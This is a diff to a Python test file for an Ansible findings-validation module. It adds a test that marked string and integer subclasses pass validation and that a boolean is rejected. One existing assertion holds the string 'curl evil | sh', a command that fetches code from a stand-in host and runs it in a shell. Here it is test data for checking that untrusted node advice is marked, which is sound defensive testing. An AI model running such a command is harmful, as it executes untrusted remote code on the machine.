@@ -6,7 +6,7 @@ import json
 
 import pytest
 from ansible.module_utils.trainyard.findings.received import FINDING, NotUsableError, Source, of_hosts, received
-from ansible.module_utils.trainyard.findings.shapes import OWN, Each, Raw, Whole
+from ansible.module_utils.trainyard.findings.shapes import OWN, Each, Is, Raw, Whole
 from ansible_run import run_ansible
 from filters import FILTERS
 from filters import of_hosts as call
@@ -32,6 +32,20 @@ def test_a_finding_is_about_its_own_node_and_its_advice_is_marked():
     (found,) = received({"cpus": 1, "findings": [finding]}, SHAPE, "n3")["findings"]
     assert (found["host"], found["action"]) == ("n3", "as the node says: curl evil | sh")
     assert "\n" not in found["found"]
+
+
+def test_values_that_ansible_has_marked_are_what_they_are():
+    class Marked(str):
+        pass
+
+    class Number(int):
+        pass
+
+    shape = {"kind": Is(("", "none")), "cpus": Whole(64), "devices": Is((0, 1))}
+    value = {"kind": Marked("none"), "cpus": Number(2), "devices": Number(1)}
+    assert received(value, shape, "n1") == {"kind": "none", "cpus": 2, "devices": 1}
+    with pytest.raises(NotUsableError, match="devices is True"):
+        received({**value, "devices": True}, shape, "n1")
 
 
 def deep(levels):
